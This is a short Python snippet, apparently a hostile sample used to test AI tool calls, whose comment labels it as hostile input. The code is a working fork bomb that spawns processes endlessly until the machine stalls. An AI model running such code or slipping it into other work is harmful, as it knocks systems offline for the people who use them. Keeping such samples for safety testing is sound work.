# ruff: noqa  (hostile input run as a tool call, not project code)
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
